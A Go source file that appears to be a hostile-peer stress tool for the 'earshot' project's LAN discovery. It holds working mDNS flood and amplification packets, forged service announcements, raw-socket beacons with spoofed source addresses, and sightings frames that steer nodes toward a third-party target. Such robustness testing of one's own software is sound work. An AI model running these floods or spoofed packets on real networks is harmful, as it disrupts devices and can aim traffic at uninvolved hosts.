package main

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"slices"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/net/ipv4"

	"github.com/earshot-im/earshot/cmd/hostile/rogue"
	"github.com/earshot-im/earshot/crypto"
	"github.com/earshot-im/earshot/node/wire"
)

const (
	service              = "_earshot._tcp.local."
	mdnsPort, beaconPort = 5353, 27830
	// usualPort is the first of the TCP ports that nodes take, and usualPorts how many these are.
	usualPort, usualPorts = 27830, 10
	// privileged is where the ports begin that any program may have.
	privileged = 1024
	// largest is as much as a UDP packet may have, nearly.
	largest = 60_000
)

var (
	mdnsGroup   = net.IPv4(224, 0, 0, 251)
	beaconGroup = net.IPv4(239, 255, 108, 182)
)

func init() {
	add(map[string]attack{
		"questions": {about: "one mDNS packet of size bytes that is all questions, n times", n: 1, size: largest, run: (*attacker).questions},
		"answers":   {about: "mDNS packets of size bytes: many instances on one host of many addresses, n a second", n: 5, size: largest, run: (*attacker).answers},
		"forged":    {about: "n devices announced at -target, at ports from size up, round and round, and as many beacons from there", n: 1000, size: 500, run: (*attacker).forged},
		"beacons":   {about: "20,000 beacons a second, each of another device at the next of the attacker's addresses", run: (*attacker).beacons},
		"sightings": {about: "n sessions that tell of devices at -target, at ports from size up", n: 4, size: 500, run: (*attacker).sightings},
		"hear":      {about: "no attack: counts mDNS packets by sender", run: (*attacker).hear},
		"listen":    {about: "no attack: counts connections to -target, to n ports from size up", n: 1500, size: 500, run: (*attacker).listen},
	})
}

// theLAN returns the only interface.
func theLAN() (*net.Interface, error) {
	all, err := net.Interfaces()
	if err != nil {
		return nil, err
	}
	lan := slices.IndexFunc(all, func(i net.Interface) bool { return i.Flags&(net.FlagUp|net.FlagLoopback) == net.FlagUp })
	if lan < 0 {
		return nil, errors.New("no interface is up")
	}
	return &all[lan], nil
}

// multicast opens a socket that sends to everybody.
func (a *attacker) multicast(ctx context.Context) (*net.UDPConn, error) {
	from := &net.UDPAddr{Port: mdnsPort}
	if s := a.Source(0); s.IsValid() {
		from.IP = s.AsSlice()
	}
	c, err := net.DialUDP("udp4", from, &net.UDPAddr{IP: mdnsGroup, Port: mdnsPort})
	if err == nil {
		context.AfterFunc(ctx, func() { _ = c.Close() })
	}
	return c, err
}

func (a *attacker) packet(ctx context.Context, c *net.UDPConn, b []byte) {
	if _, err := c.Write(b); err != nil {
		a.Failed(ctx, "packet", err)
		sleep(ctx, time.Millisecond)
		return
	}
	a.Count("packets", 1)
	a.Count("bytes", len(b))
}

// questions asks for one thing as often as a packet holds: each question after the first points to
// its name.
func (a *attacker) questions(ctx context.Context) error {
	c, err := a.multicast(ctx)
	if err != nil {
		return err
	}
	b := append(make([]byte, 12), "\x08_earshot\x04_tcp\x05local\x00\x00\x0c\x00\x01"...)
	many := 1
	for len(b)+6 < a.size {
		b = append(b, 0xc0, 12, 0, 12, 0, 1)
		many++
	}
	binary.BigEndian.PutUint16(b[4:], uint16(many))
	a.Count("questions", many*a.n)
	for range a.n {
		a.packet(ctx, c, b)
		sleep(ctx, 100*time.Millisecond)
	}
	<-ctx.Done()
	return nil
}

// answers names many instances on one host, and then many addresses of that host.
func (a *attacker) answers(ctx context.Context) error {
	c, err := a.multicast(ctx)
	if err != nil {
		return err
	}
	for sleep(ctx, time.Second/time.Duration(a.n)) {
		a.packet(ctx, c, quadratic(a.size))
	}
	return nil
}

// quadratic makes a packet whose work is the product of its two halves where each instance is given
// each address.
func quadratic(size int) []byte {
	const hostAt, ttl = 12, "\x00\x00\x00\x78"
	b := []byte{2: 0x84, 11: 0}
	b = append(b, "\x01h\x05local\x00\x00\x01\x00\x01"+ttl+"\x00\x04\x0a\x63\x00\x01"...)
	serviceAt := len(b)
	b = append(b, "\x08_earshot\x04_tcp\xc0"...)
	b = append(b, hostAt+2)
	b = append(b, "\x00\x10\x00\x01"+ttl+"\x00\x02\x01x"...)
	many := 2
	for i := 0; len(b) < size/2; i++ {
		b = append(b, 3, byte('a'+i%26), byte('a'+i/26%26), byte('a'+i/676), 0xc0, byte(serviceAt))
		b = append(b, "\x00\x21\x00\x01"+ttl+"\x00\x08\x00\x00\x00\x00\x10\x00\xc0"...)
		b = append(b, hostAt)
		many++
	}
	for i := 0; len(b) < size; i++ {
		b = append(b, 0xc0, hostAt)
		b = append(b, "\x00\x01\x00\x01"+ttl+"\x00\x04\x0a\x62"...)
		b = binary.BigEndian.AppendUint16(b, uint16(i))
		many++
	}
	binary.BigEndian.PutUint16(b[6:], uint16(many))
	return b
}

// forged announces devices where somebody else is.
func (a *attacker) forged(ctx context.Context) error {
	c, err := a.multicast(ctx)
	if err != nil {
		return err
	}
	var packets [][]byte
	for i := range a.n {
		packets = append(packets, announcement(a.target, uint16(a.size+i), i))
	}
	forger, err := newForger(ctx)
	if err != nil {
		return err
	}
	for ctx.Err() == nil {
		for i, b := range packets {
			a.packet(ctx, c, b)
			a.forge(ctx, forger, a.target, beacon(uint16(a.size+i)))
			if !sleep(ctx, time.Millisecond) {
				return nil
			}
		}
	}
	return nil
}

// announcement is what a node would say of itself that were there.
func announcement(at netip.Addr, port uint16, i int) []byte {
	var device crypto.DeviceID
	rogue.Random(device[:])
	instance, host := fmt.Sprintf("%08x.%s", i, service), fmt.Sprintf("h%08x.local.", i)
	header := func(name string, kind uint16) dns.RR_Header {
		return dns.RR_Header{Name: name, Rrtype: kind, Class: dns.ClassINET, Ttl: 120}
	}
	m := &dns.Msg{Compress: true}
	m.Response = true
	m.Answer = []dns.RR{
		&dns.PTR{Hdr: header(service, dns.TypePTR), Ptr: instance},
		&dns.SRV{Hdr: header(instance, dns.TypeSRV), Port: port, Target: host},
		&dns.TXT{Hdr: header(instance, dns.TypeTXT), Txt: []string{"v=1", "id=" + device.String()}},
	}
	m.Extra = []dns.RR{&dns.A{Hdr: header(host, dns.TypeA), A: at.AsSlice()}}
	return rogue.Must(m.Pack())
}

// beacon is what a node would say that were there from where it is sent.
func beacon(port uint16) []byte {
	var random [32 + 8]byte // a device, and the start of a node
	rogue.Random(random[:])
	b := append([]byte("earshot\x01"), random[:32]...)
	b = binary.BigEndian.AppendUint16(b, port)
	return append(b, random[32:]...)
}

// beacons says that many devices are where the attacker is, a third of them at the ports that nodes
// take.
func (a *attacker) beacons(ctx context.Context) error {
	f, err := newForger(ctx)
	if err != nil {
		return err
	}
	const tick, each = 5 * time.Millisecond, 100
	for i := 0; sleep(ctx, tick); {
		for range each {
			port := privileged + i%50_000
			if i%3 == 0 {
				port = usualPort + i/3%usualPorts
			}
			a.forge(ctx, f, a.Source(i), beacon(uint16(port)))
			i++
		}
	}
	return nil
}

// A forger sends from any address.
type forger struct {
	*ipv4.RawConn
	lan *net.Interface
}

func newForger(ctx context.Context) (*forger, error) {
	lan, err := theLAN()
	if err != nil {
		return nil, err
	}
	c, err := net.ListenPacket("ip4:udp", "0.0.0.0")
	if err != nil {
		return nil, err
	}
	context.AfterFunc(ctx, func() { _ = c.Close() })
	raw, err := ipv4.NewRawConn(c)
	if err == nil {
		err = raw.SetMulticastInterface(lan)
	}
	return &forger{raw, lan}, err
}

// forge sends a beacon from an address, which need not be the attacker's.
func (a *attacker) forge(ctx context.Context, f *forger, from netip.Addr, beacon []byte) {
	const header, anyPort = 8, 50_000
	var b []byte
	for _, field := range []int{anyPort, beaconPort, header + len(beacon), 0} { // without a checksum
		b = binary.BigEndian.AppendUint16(b, uint16(field))
	}
	b = append(b, beacon...)
	h := &ipv4.Header{Version: ipv4.Version, Len: ipv4.HeaderLen, TotalLen: ipv4.HeaderLen + len(b), TTL: 1,
		Protocol: 17, Src: from.AsSlice(), Dst: beaconGroup}
	if err := f.WriteTo(h, b, &ipv4.ControlMessage{IfIndex: f.lan.Index}); err != nil {
		a.Failed(ctx, "beacon", err)
		return
	}
	a.Count("beacons", 1)
}

// sightings tells of devices where somebody else is.
func (a *attacker) sightings(ctx context.Context) error {
	a.again(ctx, func(i int) error {
		s, err := a.Enter(ctx, a.Source(i), a.Person(i, "Sightings"))
		if err != nil {
			return err
		}
		defer s.Close()
		for port := uint16(a.size); ctx.Err() == nil; {
			var f wire.Sightings
			for range wire.MaxSightings {
				var one wire.Sighting
				rogue.Random(one.Device[:])
				for range wire.MaxAddresses {
					one.Addresses = append(one.Addresses, netip.AddrPortFrom(a.target, max(port, 1)))
					port++
				}
				f.Sightings = append(f.Sightings, one)
			}
			if err := s.Send(wire.Frame{Sightings: &f}); err != nil {
				return err
			}
			a.Count("sightings", wire.MaxSightings)
		}
		return nil
	})
	return nil
}

// hear counts what everybody multicasts.
func (a *attacker) hear(ctx context.Context) error {
	lan, err := theLAN()
	if err != nil {
		return err
	}
	l, err := net.ListenMulticastUDP("udp4", lan, &net.UDPAddr{IP: mdnsGroup, Port: mdnsPort})
	if err != nil {
		return err
	}
	context.AfterFunc(ctx, func() { _ = l.Close() })
	_ = l.SetReadBuffer(16 << 20) // as much as the system lets
	for b := make([]byte, 1<<16); ; {
		n, from, err := l.ReadFromUDPAddrPort(b)
		if err != nil {
			return nil // the attack is over
		}
		a.Count(fmt.Sprint(from.Addr(), " packets"), 1)
		a.Count(fmt.Sprint(from.Addr(), " bytes"), n)
	}
}

// listen is the third party.
func (a *attacker) listen(ctx context.Context) error {
	for i := range a.n {
		l, err := (&net.ListenConfig{}).Listen(ctx, "tcp", netip.AddrPortFrom(a.target, uint16(a.size+i)).String())
		if err != nil {
			return err
		}
		context.AfterFunc(ctx, func() { _ = l.Close() })
		go func() { // ends with the listener
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				a.Count("connections", 1)
				if a.size+i < privileged {
					a.Count("connections to ports below 1024", 1)
				}
				_ = c.Close()
			}
		}()
	}
	<-ctx.Done()
	return nil
}
